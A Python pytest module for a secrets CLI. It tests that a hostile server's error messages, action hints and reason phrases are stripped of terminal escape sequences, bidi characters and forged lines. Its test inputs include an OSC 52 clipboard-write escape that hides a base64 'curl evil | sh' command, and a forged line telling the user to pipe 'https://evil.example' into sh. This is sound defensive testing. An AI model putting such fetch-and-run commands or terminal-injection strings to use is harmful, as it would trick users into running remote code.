"""Server text in an error (leger/api/error_mapping.py) is one terminal-safe line.

A hostile or broken server's message, ``action`` or reason phrase cannot rewrite
the terminal or forge lines; the ``action`` becomes the hint.
"""

from __future__ import annotations

import pytest

from leger.errors import InvalidToken, ServerError
from tests.support import wire
from tests.support.api import MockServer, answer, shown

VALUE = "v4lue-H0STILE-9e2c"
ESC = "\x1b"


@pytest.mark.parametrize(
    "evil",
    [
        "OK\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # an OSC 52 clipboard write
        "Oops\x1b[2J\x1b[H",  # clear the screen
        "Error\n✓ Secret deleted\nfix it with: curl https://evil.example | sh",  # forged lines
        "bidi \u202eevil\u202c and \u2028 line separator",
    ],
)
@pytest.mark.parametrize("where", ["message", "action", "reason"])
def test_server_text_is_one_terminal_safe_line(evil: str, where: str) -> None:
    if where == "reason":
        response = answer(500, content=b"", extensions={"reason_phrase": evil.encode()})
    elif where == "message":
        response = answer(500, wire.error("internal_error", evil))
    else:
        response = answer(500, wire.error("internal_error", "failed", action=evil))
    with (
        MockServer(lambda request: response).client() as client,
        pytest.raises(ServerError) as info,
    ):
        client.set_secret("k", VALUE)
    text = shown(info.value)
    assert ESC not in text
    assert "\x07" not in text
    assert "\u202e" not in text
    assert "\u2028" not in text
    # The message is one line; the hint is the server's action, also one line.
    assert "\n" not in info.value.message
    if where == "action":
        assert "\n" not in (info.value.hint or "")


def test_the_servers_action_is_the_hint() -> None:
    body = wire.error(
        "authentication_failed", "Invalid token", action="Please run: leger auth login"
    )
    with (
        MockServer(lambda request: answer(401, body)).client() as client,
        pytest.raises(InvalidToken) as info,
    ):
        client.list_secrets()
    assert info.value.hint == "Please run: leger auth login"
    assert info.value.exit_code == 4
